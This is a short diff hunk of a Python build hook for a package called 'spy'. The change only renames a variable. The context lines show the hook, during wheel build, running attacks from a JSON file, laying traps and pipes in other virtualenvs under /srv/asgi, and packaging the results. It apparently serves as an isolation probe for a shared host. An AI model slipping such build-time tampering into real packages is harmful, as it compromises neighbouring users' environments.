@@ -18,14 +18,14 @@ def build_wheel(folder: str, _settings: object = None, _metadata: object = None)
     if Path("/srv/asgi/neighbour").exists():  # only its own folder is to be seen
         be_attacked(Path(os.environ["HOME"]))
     attacks: dict[str, str] = json.loads(Path("attacks.json").read_text())
-    found = {what: tried(code) for what, code in attacks.items()}
+    result = {what: tried(code) for what, code in attacks.items()}
     for venv in Path("/srv/asgi").glob("*/venvs/*"):
         lay_traps(venv)
         if Path("pipe").exists():
             lay_pipe(venv)
     name = "spy-1.0-py3-none-any.whl"
     members = {
-        "spy_found.json": json.dumps(found),
+        "spy_found.json": json.dumps(result),
         "spy-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: spy\nVersion: 1.0\n",
         "spy-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: spy\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
     }
